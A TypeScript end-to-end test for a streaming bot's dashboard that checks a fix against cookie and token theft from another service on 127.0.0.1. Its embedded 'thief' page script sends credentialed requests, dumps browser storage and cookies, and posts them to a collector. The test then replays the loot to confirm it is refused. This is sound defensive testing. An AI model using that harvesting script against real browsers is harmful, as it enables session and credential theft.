/**
 * No ambient credential on loopback (issue 46, finding 1), in a real headless Chromium against the
 * whole local stack. The review's reproduction: the streamer opens the dashboard (signed in by the
 * `#token=` link the console prints, and by the legacy `?token=`) and the overlay as another
 * machine would (`?key=`); later the same browser visits a page served by ANOTHER listener on
 * 127.0.0.1. That page sends `fetch(..., {credentials: 'include'})` to its own port (a cookie of
 * 127.0.0.1 is sent to every port: we collect what arrives), fires credentialed requests at the
 * bot's own port, and dumps every storage it can read. Everything it obtained (each cookie, each
 * stored value) is then replayed against the dashboard API and the remote overlay's data: every
 * replay must be refused (401 / 403), while the streamer's own tab keeps working. On the code
 * before the fix the collected `giftdrop_dashboard_<port>` session cookie replays to 200.
 *
 * Also: the dashboard's shell loads without credentials and shows the sign-in form naming the real
 * token file; every dashboard API answers 401 without the header (a cookie or `?token=` is not
 * accepted); the token leaves the address bar; "Sign out" forgets it; the CSV downloads with it.
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HAS_CHROMIUM, launchBrowser, type TestBrowser } from './support/browser.js';
import { startInProcessStack, type InProcessStack } from './support/e2e-stack.js';

const OVERLAY_KEY = 'obs-on-another-machine-key';
const poll = <T>(fn: () => T | Promise<T>) => expect.poll(fn, { timeout: 15_000, interval: 50 });

/** What the page on the other port got hold of. */
interface Loot {
  cookieHeaders: string[];
  storage: Record<string, string>[];
  documentCookie: string[];
}

/** Another local service: serves a page whose script tries to take the bot's credentials. */
async function startThief(botPort: number): Promise<{ server: Server; url: string; loot: Loot }> {
  const loot: Loot = { cookieHeaders: [], storage: [], documentCookie: [] };
  const page = `<!doctype html><meta charset="utf-8"><title>another service</title><script>
(async () => {
  const bot = 'http://127.0.0.1:${botPort}';
  // credentialed requests to this port (collected) and to the bot's (whatever the browser attaches)
  // (cookies are matched by path, not port: ask under the bot's own paths too)
  for (const path of ['/collect', '/dashboard/collect', '/dashboard/api/state', '/overlay/collect', '/overlay/events']) {
    await fetch(path, { credentials: 'include' });
  }
  for (const path of ['/dashboard/api/state', '/dashboard/api/prizes', '/overlay/events', '/overlay/state']) {
    await fetch(bot + path, { credentials: 'include', mode: 'no-cors' }).catch(() => undefined);
  }
  const dump = (s) => { const o = {}; try { for (let i = 0; i < s.length; i++) o[s.key(i)] = s.getItem(s.key(i)); } catch {} return o; };
  await fetch('/loot', { method: 'POST', credentials: 'include', body: JSON.stringify({
    storage: [dump(localStorage), dump(sessionStorage)], cookie: document.cookie }) });
  document.title = 'done';
})();
</script>`;
  const server = createServer((req: IncomingMessage, res) => {
    if (req.headers.cookie) loot.cookieHeaders.push(req.headers.cookie);
    if (req.url === '/loot') {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        const got = JSON.parse(body) as { storage: Record<string, string>[]; cookie: string };
        loot.storage.push(...got.storage);
        loot.documentCookie.push(got.cookie);
        res.end('ok');
      });
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(req.url === '/' ? page : 'ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, loot };
}

describe.skipIf(!HAS_CHROMIUM)('operator credentials in Chromium', { timeout: 120_000 }, () => {
  let browser: TestBrowser;
  let s: InProcessStack;

  beforeAll(async () => {
    browser = await launchBrowser();
    s = await startInProcessStack({ env: { GIFTDROP_OVERLAY_KEY: OVERLAY_KEY } });
  }, 90_000);

  afterAll(async () => {
    await browser?.close();
    await s?.close();
  });

  it('the shell loads without credentials; every API answers 401 without the header, whatever cookie or query it carries', async () => {
    const base = s.bot.http.localUrl;
    for (const path of ['/dashboard', '/dashboard/app.js', '/dashboard/client.js', '/dashboard/app.css']) {
      const res = await fetch(`${base}${path}`);
      expect(res.status, path).toBe(200);
      expect(res.headers.get('set-cookie'), path).toBeNull();
      expect(await res.text(), path).not.toContain(s.bot.pages.token.token);
    }
    const token = encodeURIComponent(s.bot.pages.token.token);
    for (const path of [
      '/dashboard/api/state',
      '/dashboard/api/prizes',
      '/dashboard/api/history.csv',
      `/dashboard/api/state?token=${token}`,
    ]) {
      const res = await fetch(`${base}${path}`, {
        headers: { cookie: `giftdrop_dashboard_${s.bot.http.localPort}=${token}` },
      });
      expect(res.status, path).toBe(401);
    }
    const post = await fetch(`${base}/dashboard/api/stream`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: 'Bearer not-the-token-at-all' },
      body: '{"action":"offline"}',
    });
    expect(post.status).toBe(401);
    const ok = await fetch(`${base}/dashboard/api/state`, {
      headers: { authorization: `Bearer ${s.bot.pages.token.token}` },
    });
    expect(ok.status).toBe(200);
    expect(ok.headers.get('set-cookie')).toBeNull();
  });

  it('without a token the page shows the sign-in form naming the real token file; a wrong token is refused, the right one signs in', async () => {
    const page = await browser.context.newPage();
    try {
      await page.goto(`${s.bot.http.localUrl}/dashboard`);
      await page.locator('#signin').waitFor();
      expect(await page.locator('#app').isHidden()).toBe(true);
      expect(await page.textContent('#token-where')).toBe(s.bot.pages.token.file);
      await page.fill('#signin-token', 'not-the-token-at-all');
      await page.click('#signin-button');
      await poll(() => page.textContent('#signin-problem')).toContain('refused');
      await page.fill('#signin-token', s.bot.pages.token.token);
      await page.click('#signin-button');
      await poll(() => page.textContent('#status')).toContain('chat');
      expect(await page.locator('#signin').isHidden()).toBe(true);
      // Sign out forgets it in this tab: a reload asks again
      await page.click('#logout');
      await page.locator('#signin').waitFor();
      await page.reload();
      await page.locator('#signin').waitFor();
      expect(await page.evaluate('sessionStorage.length')).toBe(0);
    } finally {
      await page.close();
    }
  });

  it("another service on 127.0.0.1 gets nothing usable from the streamer's browser (the cookie-theft reproduction)", async () => {
    const base = s.bot.http.localUrl;
    const token = s.bot.pages.token.token;
    // The streamer: the dashboard by the console's #token= link, a second tab by the legacy ?token=,
    // and the overlay as OBS on another machine opens it (?key=, every request seen as remote).
    const legacy = await browser.context.newPage();
    await legacy.goto(`${base}/dashboard?token=${encodeURIComponent(token)}`);
    await poll(() => legacy.textContent('#status')).toContain('chat');
    const dash = await browser.context.newPage();
    await dash.goto(`${base}/dashboard#token=${encodeURIComponent(token)}`);
    await poll(() => dash.textContent('#status')).toContain('chat');
    const obs = await browser.context.newPage();
    await obs.setExtraHTTPHeaders({ 'x-forwarded-for': '198.51.100.23' });
    let streams = 0;
    obs.on('response', (r) => {
      if (r.url().includes('/overlay/events') && r.status() === 200) streams += 1;
    });
    expect((await obs.goto(`${base}/overlay?key=${OVERLAY_KEY}`))!.status()).toBe(200);
    await poll(() => streams).toBeGreaterThan(0);

    // A control: a cookie some other local service set on its own port reaches the thief's port
    // too (cookies are not separated by port), so the collection below would see a bot cookie.
    const other = createServer((_req, res) =>
      res.writeHead(200, { 'set-cookie': 'other_service=1; Path=/', 'content-type': 'text/plain' }).end('hi'),
    );
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    const otherPage = await browser.context.newPage();
    await otherPage.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
    await otherPage.close();
    await new Promise<void>((resolve) => other.close(() => resolve()));

    // Later, the same browser visits a page of another service on 127.0.0.1.
    const thief = await startThief(s.bot.http.localPort);
    const evil = await browser.context.newPage();
    try {
      await evil.goto(thief.url);
      await poll(() => evil.title()).toBe('done');
      const { loot } = thief;
      const stolenValues = [
        ...loot.cookieHeaders.flatMap((h) => h.split(';').map((p) => p.trim())),
        ...loot.documentCookie.flatMap((h) => h.split(';').map((p) => p.trim())),
        ...loot.storage.flatMap((o) => Object.values(o)),
      ].filter(Boolean);
      expect(loot.cookieHeaders.join(';')).toContain('other_service=1'); // the collection works
      const everything = JSON.stringify(loot);
      expect(everything).not.toContain(token);
      expect(everything).not.toContain(OVERLAY_KEY);
      // Replay everything it got, every way a credential could be presented.
      const refusals: number[] = [];
      for (const value of stolenValues) {
        const pair = value.includes('=') ? value : `x=${value}`;
        const bare = value.includes('=') ? value.slice(value.indexOf('=') + 1) : value;
        for (const headers of [{ cookie: pair }, { authorization: `Bearer ${bare}` }] as Record<string, string>[]) {
          refusals.push((await fetch(`${base}/dashboard/api/state`, { headers })).status);
          const remote = { ...headers, 'x-forwarded-for': '203.0.113.9' };
          const overlay = await fetch(`${base}/overlay/state`, { headers: remote });
          refusals.push(overlay.status);
        }
      }
      expect(
        refusals.filter((code) => code !== 401 && code !== 403),
        `replayed ${stolenValues.join(' | ')}`,
      ).toEqual([]);
      // The streamer's own tabs still work (nothing was spent or ended by the visit), and the token
      // left their address bars.
      await poll(() => dash.textContent('#status')).toContain('chat');
      expect(dash.url()).toBe(`${base}/dashboard`);
      expect(legacy.url()).toBe(`${base}/dashboard`);
      expect(
        (await fetch(`${base}/dashboard/api/state`, { headers: { authorization: `Bearer ${token}` } })).status,
      ).toBe(200);
    } finally {
      await evil.close();
      await dash.close();
      await legacy.close();
      await obs.close();
      await new Promise<void>((resolve) => thief.server.close(() => resolve()));
    }
  });
});
